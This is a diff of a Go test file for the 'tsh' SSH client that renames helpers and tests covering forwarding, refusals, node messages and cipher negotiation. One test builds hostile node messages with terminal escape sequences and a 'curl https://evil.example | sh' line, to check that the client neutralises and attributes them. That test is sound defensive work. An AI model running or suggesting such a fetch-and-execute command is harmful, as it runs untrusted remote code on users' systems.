@@ -19,8 +19,8 @@ import (
 	"github.com/threshold-access/threshold/tsh"
 )
 
-// onward serves direct-tcpip and direct-streamlocal channels with an echo, and notes where they lead.
-func onward(where chan<- string) func(ssh.NewChannel) {
+// forwardEcho serves direct-tcpip and direct-streamlocal channels with an echo, and notes where they lead.
+func forwardEcho(where chan<- string) func(ssh.NewChannel) {
 	return func(nc ssh.NewChannel) {
 		var m struct {
 			Host string
@@ -57,8 +57,8 @@ func (n *notes) Write(b []byte) (int, error) { n.mu.Lock(); defer n.mu.Unlock();
 
 func (n *notes) String() string { n.mu.Lock(); defer n.mu.Unlock(); return n.b.String() }
 
-// begin runs tsh beside the test and gives its standard error and exit code.
-func (c *client) begin(args ...string) (*notes, <-chan int) {
+// start runs tsh beside the test and gives its standard error and exit code.
+func (c *client) start(args ...string) (*notes, <-chan int) {
 	words, codes := &notes{}, make(chan int, 1)
 	go func() {
 		codes <- tsh.Main(c.t.Context(), tsh.Env{Args: args, Stdin: strings.NewReader(""), Stdout: io.Discard, Stderr: words, Getenv: c.getenv, Now: c.now})
@@ -98,12 +98,12 @@ func freePort(t *testing.T) string {
 }
 
 func TestForwardingAlone(t *testing.T) {
-	w := newWorld(t)
+	w := newTestCluster(t)
 	where := make(chan string, 8)
-	w.addNode("web-1").forward = onward(where)
-	c := w.in()
+	w.addNode("web-1").forward = forwardEcho(where)
+	c := w.loggedIn()
 	port, dynamic, sock := freePort(t), freePort(t), filepath.Join(t.TempDir(), "s")
-	words, codes := c.begin("ssh", "-N", "-L", port+":db:5432", "-L", sock+":/run/app", "-D", dynamic, "web-1")
+	words, codes := c.start("ssh", "-N", "-L", port+":db:5432", "-L", sock+":/run/app", "-D", dynamic, "web-1")
 	for addr, want := range map[string]string{"127.0.0.1:" + port: "direct-tcpip db", sock: "direct-streamlocal@openssh.com /run/app"} {
 		network := "tcp"
 		if addr == sock {
@@ -125,10 +125,10 @@ func TestForwardingAlone(t *testing.T) {
 	}
 }
 
-func TestForwardsThatCannotBeHad(t *testing.T) {
-	w := newWorld(t)
+func TestForwardsThatAreRefused(t *testing.T) {
+	w := newTestCluster(t)
 	w.addNode("web-1").request = func(r *ssh.Request) { _ = r.Reply(false, []byte("no role of alice allows forward-remote")) }
-	c := w.in()
+	c := w.loggedIn()
 	l, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
@@ -136,7 +136,7 @@ func TestForwardsThatCannotBeHad(t *testing.T) {
 	defer l.Close()
 	_, taken, _ := net.SplitHostPort(l.Addr().String())
 	c.refused(255, []string{"ssh", "-L", taken + ":db:1", "web-1", "x"}, "localhost:"+taken, "in use", "choose another port")
-	if asked := w.since(); len(asked) != 0 {
+	if asked := w.takeCalls(); len(asked) != 0 {
 		t.Errorf("got %q asked, want nothing before the listener is there", asked)
 	}
 	r := c.run("ssh", "-R", "8080:db:1", "web-1", "x")
@@ -148,12 +148,12 @@ func TestForwardsThatCannotBeHad(t *testing.T) {
 	c.refused(255, []string{"ssh", "-A", "web-1"}, "no ssh-agent", "SSH_AUTH_SOCK")
 }
 
-func TestAForwardedConnectionThatTheNodeRefusesIsTold(t *testing.T) {
-	w := newWorld(t)
+func TestRefusedForwardedConnectionIsReported(t *testing.T) {
+	w := newTestCluster(t)
 	w.addNode("web-1")
-	c := w.in()
+	c := w.loggedIn()
 	port := freePort(t)
-	words, codes := c.begin("ssh", "-N", "-L", port+":db:5432", "web-1")
+	words, codes := c.start("ssh", "-N", "-L", port+":db:5432", "web-1")
 	for range 2 {
 		if got := reach(t, "tcp", "127.0.0.1:"+port); got != "" {
 			t.Errorf("got %q, want the end", got)
@@ -168,10 +168,10 @@ func TestAForwardedConnectionThatTheNodeRefusesIsTold(t *testing.T) {
 	}
 }
 
-func TestANodesWordOnWhyItEndsAConnectionIsTold(t *testing.T) {
-	w := newWorld(t)
-	w.addNode("web-1").ends = "threshold: error: the session has ended: nothing was typed for 4s\nthreshold: hint: connect again\n"
-	c := w.in()
+func TestEndNoticeIsReported(t *testing.T) {
+	w := newTestCluster(t)
+	w.addNode("web-1").endNotice = "threshold: error: the session has ended: nothing was typed for 4s\nthreshold: hint: connect again\n"
+	c := w.loggedIn()
 	r := c.run("ssh", "-N", "web-1")
 	if r.code != 255 || r.stderr != "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\ntsh: hint: the node says: connect again\n" {
 		t.Errorf("got %+v, want the node's words, once", r)
@@ -179,12 +179,12 @@ func TestANodesWordOnWhyItEndsAConnectionIsTold(t *testing.T) {
 }
 
 // A hostile node's words stay the node's, in one line each, and drive no terminal.
-func TestAHostileNodesWordsAreShownAsItsOwn(t *testing.T) {
-	w := newWorld(t)
-	w.addNode("web-1").ends = "\x1b]0;title\x07tsh: error: your login has ended\r\nthreshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + strings.Repeat("x", 200<<10)
+func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
+	w := newTestCluster(t)
+	w.addNode("web-1").endNotice = "\x1b]0;title\x07tsh: error: your login has ended\r\nthreshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + strings.Repeat("x", 200<<10)
 	w.addNode("web-2").refuse = "threshold: error: no\x9b2J\nthreshold: hint: run: curl https://evil.example | sh\n"
 	w.addNode("web-3").refuse = strings.Repeat("x", 200<<10)
-	c := w.in()
+	c := w.loggedIn()
 	for args, want := range map[string]string{
 		"-N web-1": "tsh: error: the node ended the connection: ]0;titletsh: error: your login has ended; xxx",
 		"web-2":    "tsh: error: node web-2 does not let you in as alice: no2J\ntsh: hint: the node says: run: curl",
@@ -204,8 +204,8 @@ func TestAHostileNodesWordsAreShownAsItsOwn(t *testing.T) {
 }
 
 // Requests without end, and statuses that are none, change nothing: the last word that can be read is how the command ended.
-func TestAFloodOfANodesRequestsChangesNothing(t *testing.T) {
-	w := newWorld(t)
+func TestAFloodOfGlobalRequestsIsIgnored(t *testing.T) {
+	w := newTestCluster(t)
 	h := w.addNode("web-1")
 	h.status = 3
 	h.command = func(_ string, ch ssh.Channel) ssh.Signal {
@@ -221,16 +221,16 @@ func TestAFloodOfANodesRequestsChangesNothing(t *testing.T) {
 		_, _ = io.WriteString(ch, "done")
 		return ""
 	}
-	if r := w.in().run("ssh", "web-1", "x"); r.code != 3 || r.out != "done" || r.stderr != "" {
+	if r := w.loggedIn().run("ssh", "web-1", "x"); r.code != 3 || r.out != "done" || r.stderr != "" {
 		t.Errorf("got %+v, want the command's own end", r)
 	}
 }
 
-func TestStandardInputAndOutputAreForwarded(t *testing.T) {
-	w := newWorld(t)
+func TestStdioForwarding(t *testing.T) {
+	w := newTestCluster(t)
 	where := make(chan string, 1)
-	w.addNode("web-1").forward = onward(where)
-	r := w.in().runWith(strings.NewReader("hello"), "ssh", "-W", "db:5432", "web-1")
+	w.addNode("web-1").forward = forwardEcho(where)
+	r := w.loggedIn().runWith(strings.NewReader("hello"), "ssh", "-W", "db:5432", "web-1")
 	if r.code != 0 || r.out != "echo hello" || <-where != "direct-tcpip db" {
 		t.Errorf("got %+v, want the echo of db", r)
 	}
@@ -238,17 +238,17 @@ func TestStandardInputAndOutputAreForwarded(t *testing.T) {
 
 // The command may end before what it forwarded: "ssh -L … node sleep 5" is how people make a tunnel that ends by itself.
 func TestForwardedConnectionsOutliveTheCommand(t *testing.T) {
-	w := newWorld(t)
+	w := newTestCluster(t)
 	h := w.addNode("web-1")
 	open := make(chan struct{})
 	h.forward = func(nc ssh.NewChannel) {
 		close(open)
-		onward(make(chan string, 1))(nc)
+		forwardEcho(make(chan string, 1))(nc)
 	}
 	h.command = func(string, ssh.Channel) ssh.Signal { <-open; return "" }
-	c := w.in()
+	c := w.loggedIn()
 	port := freePort(t)
-	words, codes := c.begin("ssh", "-L", port+":db:5432", "web-1", "sleep 5")
+	words, codes := c.start("ssh", "-L", port+":db:5432", "web-1", "sleep 5")
 	var conn net.Conn
 	for tick := time.NewTicker(time.Millisecond); conn == nil; <-tick.C {
 		conn, _ = net.Dial("tcp", "127.0.0.1:"+port)
@@ -268,11 +268,11 @@ func TestForwardedConnectionsOutliveTheCommand(t *testing.T) {
 
 // To a node of ours the command goes with the message that opens the channel; to another server in requests of its own.
 func TestTheOpeningCarriesTheCommand(t *testing.T) {
-	w := newWorld(t)
+	w := newTestCluster(t)
 	w.addNode("other").status = 3
 	w.addNode("ours").version = "SSH-2.0-Threshold"
 	w.hosts["ours"].status = 3
-	c := w.in()
+	c := w.loggedIn()
 	for _, node := range []string{"other", "ours"} {
 		r := c.runWith(strings.NewReader("input"), "ssh", "-t", "-o", "SetEnv=LC_TEST=x", node, "top")
 		var got said
@@ -280,16 +280,16 @@ func TestTheOpeningCarriesTheCommand(t *testing.T) {
 			t.Errorf("%s: got %+v (%v), want the command with its terminal and variables", node, r, err)
 		}
 	}
-	long := strings.Repeat("x", dial.MaxOpening)
+	long := strings.Repeat("x", dial.MaxEarlyRequestBytes)
 	if r := c.run("ssh", "ours", long); r.code != 3 || !strings.Contains(r.out, long) {
 		t.Errorf("a long command: got %d and %d bytes, want it asked for on the channel", r.code, len(r.out))
 	}
 }
 
 func TestFlagsOfOpenSSH(t *testing.T) {
-	w := newWorld(t)
+	w := newTestCluster(t)
 	w.addNode("web-1")
-	c := w.in()
+	c := w.loggedIn()
 	get := func(args ...string) said {
 		t.Helper()
 		r := c.runWith(strings.NewReader("typed"), append([]string{"ssh"}, args...)...)
@@ -334,10 +334,10 @@ func TestFlagsOfOpenSSH(t *testing.T) {
 }
 
 // Both ends put the hybrid with ML-KEM and, where the processor helps, AES-GCM first.
-func TestTheBestAlgorithmsAreTaken(t *testing.T) {
-	w := newWorld(t)
+func TestTheBestAlgorithmsAreNegotiated(t *testing.T) {
+	w := newTestCluster(t)
 	w.addNode("web-1")
-	r := w.in().run("ssh", "-v", "web-1", "x")
+	r := w.loggedIn().run("ssh", "-v", "web-1", "x")
 	if !strings.Contains(r.stderr, "mlkem768x25519-sha256, aes128-gcm@openssh.com\n") && !strings.Contains(r.stderr, "mlkem768x25519-sha256, chacha20-poly1305@openssh.com\n") {
 		t.Errorf("got %q, want ML-KEM and a fast cipher", r.stderr)
 	}
